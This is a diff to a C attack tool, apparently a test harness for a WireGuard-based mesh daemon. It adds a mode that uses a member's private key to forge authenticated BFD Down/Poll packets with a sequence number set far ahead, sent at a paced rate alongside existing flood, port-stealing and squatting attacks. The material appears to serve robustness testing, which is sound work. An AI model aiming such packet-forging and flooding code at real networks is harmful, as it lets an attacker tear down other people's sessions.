@@ -5,6 +5,9 @@
  *
  *	attack bfd SOURCE TARGET DIAG POLL RATE SECONDS
  *		BFD in state Down from SOURCE, RATE a second, from a port of its own, as TTL 255
+ *	attack member SOURCE TARGET KEY_FILE TARGET_KEY RATE SECONDS
+ *		the same with Poll, authenticated by who holds the private key in KEY_FILE: what a
+ *		member of the mesh gone mad sends
  *	attack steal ADDRESS DEVICE SECONDS
  *		binds the BFD port of ADDRESS beside whoever has it, and reads
  *	attack squat NAME SECONDS
@@ -18,6 +21,8 @@
  */
 #include "base/mem.h"
 #include "base/prefix.h"
+#include "daemon/session_keys.h"
+#include "live/bfd_auth.h"
 #include "wg/cookie.h"
 #include <arpa/inet.h>
 #include <errno.h>
@@ -39,7 +44,6 @@
 #define NOBODY 65534
 #define BATCH 64
 #define TTL 255
-#define BFD_PORT 3784
 #define BFD_LEN 24
 
 static int fail(const char *what)
@@ -67,6 +71,8 @@ static int64_t now_ns(void)
 struct messages {
 	struct mmsghdr headers[BATCH];
 	struct iovec parts[BATCH];
+	void (*renew)(void *); /* before each batch, with data; NULL: nothing to do */
+	void *data;
 };
 
 /* All to the same place; what each says stands in bytes, size apart. */
@@ -93,7 +99,11 @@ static uint64_t send_paced(int fd, struct messages *m, double rate, double secon
 		due = (uint64_t)((double)(now - start) / (double)NS_PER_S * rate) + 1;
 		while (tried < due) {
 			unsigned n = due - tried < BATCH ? (unsigned)(due - tried) : BATCH;
-			int r = sendmmsg(fd, m->headers, n, MSG_DONTWAIT);
+			int r;
+
+			if (m->renew)
+				m->renew(m->data);
+			r = sendmmsg(fd, m->headers, n, MSG_DONTWAIT);
 
 			sent += r > 0 ? (unsigned)r : 0;
 			tried += n;
@@ -134,27 +144,96 @@ static int set_ttl(int fd, int family)
 		       : setsockopt(fd, IPPROTO_IPV6, IPV6_UNICAST_HOPS, &ttl, sizeof(ttl));
 }
 
+static int bfd_socket(const ip_addr *source)
+{
+	sock_addr from = sock_addr_make(source, 0);
+	int fd = socket(source->family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+
+	if (fd < 0 || bind(fd, &from.sa, sock_addr_len(&from)) || set_ttl(fd, source->family))
+		return -1;
+	return fd;
+}
+
 static int attack_bfd(char **args)
 {
 	uint8_t bytes[BATCH][BFD_LEN];
 	struct messages m;
 	ip_addr source, target;
-	sock_addr from, to;
+	sock_addr to;
 	int fd;
 
 	if (!ip_addr_parse(&source, args[0]) || !ip_addr_parse(&target, args[1]))
 		return 2;
 	if (!become_nobody())
 		return fail("attack: nobody");
-	from = sock_addr_make(&source, 0);
 	to = sock_addr_make(&target, BFD_PORT);
-	fd = socket(source.family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
-	if (fd < 0 || bind(fd, &from.sa, sock_addr_len(&from)) || set_ttl(fd, source.family))
+	fd = bfd_socket(&source);
+	if (fd < 0)
 		return fail("attack: socket");
 	put_down(bytes[0], (unsigned)atoi(args[2]), atoi(args[3]));
 	for (unsigned i = 1; i < BATCH; i++)
 		memcpy(bytes[i], bytes[0], BFD_LEN);
 	messages_set(&m, bytes, BFD_LEN, &to);
+	return tell(send_paced(fd, &m, atof(args[4]), atof(args[5])));
+}
+
+struct member {
+	struct bfd_auth auth;
+	uint8_t bytes[BATCH][BFD_PACKET_MAX];
+};
+
+static void seal_batch(void *member)
+{
+	struct member *m = member;
+	struct bfd_packet p = {.state = BFD_DOWN,
+		.diag = BFD_DIAG_TIME_EXPIRED,
+		.poll = true,
+		.detect_mult = 3,
+		.my_discriminator = 12345,
+		.desired_min_tx = 1000000,
+		.required_min_rx = 1000000};
+
+	for (unsigned i = 0; i < BATCH; i++)
+		bfd_auth_seal(&m->auth, &p, m->bytes[i]);
+}
+
+/* As its own daemon makes them; the sequence is ahead of that one's for hours. */
+static bool learn_keys(struct member *m, const char *file, const char *target)
+{
+	struct session_keys *k = session_keys_new();
+	struct bfd_keys keys;
+	wg_key private, public;
+	bool ok = !wg_key_read_file(&private, file) && wg_key_from_base64(&public, target);
+
+	if (ok) {
+		session_keys_begin(k, &private);
+		session_keys_get(k, &public, &keys);
+		bfd_auth_init(&m->auth, &keys, (uint32_t)(time(NULL) + 36000) * BFD_AUTH_RATE);
+	}
+	session_keys_free(k);
+	return ok;
+}
+
+static int attack_member(char **args)
+{
+	static struct member member;
+	ip_addr source, target;
+	struct messages m;
+	sock_addr to;
+	int fd;
+
+	if (!ip_addr_parse(&source, args[0]) || !ip_addr_parse(&target, args[1]) ||
+		!learn_keys(&member, args[2], args[3]))
+		return 2;
+	if (!become_nobody())
+		return fail("attack: nobody");
+	to = sock_addr_make(&target, BFD_PORT);
+	fd = bfd_socket(&source);
+	if (fd < 0)
+		return fail("attack: socket");
+	messages_set(&m, member.bytes, BFD_PACKET_MAX, &to);
+	m.renew = seal_batch;
+	m.data = &member;
 	return tell(send_paced(fd, &m, atof(args[4]), atof(args[5])));
 }
 
@@ -261,6 +340,7 @@ int main(int argc, char **argv)
 		int (*run)(char **args);
 	} attacks[] = {
 		{"bfd", 6, attack_bfd},
+		{"member", 6, attack_member},
 		{"steal", 3, attack_steal},
 		{"squat", 2, attack_squat},
 		{"handshakes", 5, attack_handshakes},
